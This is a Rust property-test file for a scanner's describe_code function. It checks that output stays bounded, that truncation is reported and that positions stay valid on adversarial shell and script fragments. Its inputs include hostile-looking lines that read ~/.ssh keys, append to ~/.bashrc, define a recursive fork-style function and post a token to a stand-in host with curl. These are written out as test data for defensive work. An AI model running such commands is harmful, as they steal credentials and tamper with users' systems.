//! Row 192: code that is written to stop its reader is read to its end, or said to be cut.

use proptest::prelude::*;
use skillsandbox_scanner::describe_code;

/// Every language that is read without a parser of its own.
const ENDINGS: &[&str] = &["sh", "rb", "php", "pl", "ps1", "go", "lua", "applescript", "bat"];
/// How long the texts are; a debug build is slow.
const LENGTH: usize = 1 << 14;

/// Most facts of one text, with a line that says where a bound was met.
const MAX_SAID: usize = 2000;

/// A piece, over and over.
fn repeat(piece: &str) -> String {
    piece.repeat(LENGTH / piece.len() + 1)
}

/// An ordinary script.
const CLEAN: &str = "set -e\nNAME=\"${1:-world}\"\nfor f in src/*.ts; do\n  if grep -q TODO \"$f\"; then echo \"found $f\" >> out.log; fi\ndone\ncurl -fsSL -H \"Authorization: Bearer $API_TOKEN\" \"https://api.vendor.test/v1?n=$NAME\" | jq -r .id > ids.txt\n";

#[test]
fn row_192_hostile_code_comes_to_an_end() {
    let pieces = [
        "$( ",
        "\"$(",
        "` ",
        "`a`",
        "\"",
        "'",
        "cat <<A\n",
        "<<A ",
        "a|",
        "a;",
        "${a:-",
        "{a,b}",
        "((",
        "$((",
        "f(){ f; f; };f;",
        "a=$a$a;",
        "a+=xyz;b=$a;",
        "$'\\'",
        "\\",
        "$",
        "<",
        "<(",
        "a>b ",
        "if ",
        "case a in ",
        "(",
        "{ ",
        "for a in b; do ",
        "for a in 1 2 3 4 5 6; do echo $a; done;",
        "eval 'eval \"a\"';",
        "$(a)",
        "alias a=\"b c\";a;",
        "ls ~/.ssh/*|xargs cat;",
        "find ~ -exec cat {} \\;;",
        "a=(b ",
        "é\"$(ü ",
        "\0",
        "<a> ",
        "y=${x//a/bb};",
        "echo 'export A=1' >> ~/.bashrc;",
        "/*",
        "--[[",
        "\n",
        "[",
        "system('a ",
        "x = \"a\" + ",
        "://",
        "perl -e 'system(\"a b\")';",
        "#{",
        "%A%",
        "curl -d $A_TOKEN https://h.test;",
    ];
    for ending in ENDINGS {
        for piece in pieces {
            // However much there is to say of it, no more is said than this.
            let said = describe_code(ending, &repeat(piece)).len();
            assert!(said <= MAX_SAID, "{ending} {piece:?}: {said}");
        }
    }
}

#[test]
fn row_192_a_bound_that_is_met_is_said() {
    let cut = |text: &str| describe_code("sh", text).contains(&"cut".to_owned());
    for text in
        [repeat("$( "), repeat("("), repeat("a|"), format!("echo {}", repeat("a ")), repeat("a=$a$a$a;")]
    {
        assert!(cut(&text), "{}", &text[..20]);
    }
    assert!(!cut(CLEAN) && !cut("f() { f; }\nf\n"));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    #[test]
    fn row_192_no_text_stops_a_reader(text in "(?s).{0,400}", ending in proptest::sample::select(ENDINGS)) {
        let _ = describe_code(ending, &text);
    }

    #[test]
    fn row_192_no_mixture_of_marks_stops_a_reader(
        pieces in proptest::collection::vec(
            proptest::sample::select(&["$(", ")", "`", "\"", "'", "${", "}", "<<E\n", "\nE\n", "|", ";", "&", "<", ">", "(", "{", "a", " ", "\n", "=",
                "curl ", "-d @", "eval ", "cat ", "~/.ssh/id_rsa", "if ", "then ", "fi ", "case ", " in ", "esac ", "for ", "do ", "done ", "\\",
                "$'", "[[", "]]", "((", "))", "é", "#", "function ", "f() ", "xargs ", "find ", "-exec ", "base64 -d ", "bash -c ", "perl -e ", "%", "://", "--"][..]),
            0..120,
        ),
        ending in proptest::sample::select(ENDINGS),
    ) {
        let text: String = pieces.concat();
        for line in describe_code(ending, &text) {
            // Places are within the text.
            if let Some((_, place)) = line.rsplit_once(" at ") {
                let (start, end) = place.split_once("..").unwrap();
                let (start, end): (usize, usize) = (start.parse().unwrap(), end.parse().unwrap());
                prop_assert!(start <= end && end <= text.len(), "{line}");
                prop_assert!(text.is_char_boundary(start) && text.is_char_boundary(end), "{line}");
            }
        }
    }
}
